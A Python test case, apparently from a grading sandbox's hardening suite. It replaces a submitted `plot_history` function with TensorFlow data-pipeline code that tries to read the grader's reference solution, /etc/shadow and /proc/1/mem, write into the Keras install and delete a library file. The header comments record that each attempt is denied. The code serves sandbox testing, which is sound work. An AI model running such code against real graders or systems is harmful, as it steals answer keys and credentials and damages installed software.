# attack: 38
# form: `tf.io` in the graph and `tf.py_function` of a data set read solutions and write into libraries
# replaces: plot_history
# denies: the solution
# denies: passwords
# denies: memory of process 1
# denies: writing beside Keras
# denies: deleting a library
# allows: own file in a data set
# found: plot_history/returns_figure failed
def plot_history(history):
    import grader

    print("ran")
    root = os.path.dirname(os.path.dirname(grader.__file__))
    solution = f"{root}/solutions/week1_larger_dataset/reference.py"

    def attempt(what, element, function):
        try:
            got = list(tf.data.Dataset.from_tensors(element).map(function))
            print(f"reached: {what} {str(got)[:80]}")
        except (tf.errors.OpError, OSError):
            print(f"denied: {what}")

    def in_python(path):
        return tf.py_function(lambda p: open(p.numpy().decode()).read(), [path], tf.string)

    beside = os.path.dirname(tf.keras.__file__ or tf.__file__)
    attempt("the solution", solution, tf.io.read_file)
    attempt("the solution", solution, in_python)
    attempt("passwords", "/etc/shadow", tf.io.read_file)
    attempt("memory of process 1", "/proc/1/mem", in_python)

    def write(path):
        with tf.control_dependencies([tf.io.write_file(path, "x = 1")]):
            return tf.identity(path)

    attempt("writing beside Keras", f"{beside}/atk-patch.py", write)
    def delete(path):
        return tf.py_function(lambda p: tf.io.gfile.remove(p) or p, [path], tf.string)

    attempt("deleting a library", f"{beside}/__init__.py", delete)
    tf.io.write_file("own.txt", "mine")
    mine = next(iter(tf.data.Dataset.from_tensors("own.txt").map(tf.io.read_file)))
    print("allowed: own file in a data set" if mine == b"mine" else "refused: own file in a data set")
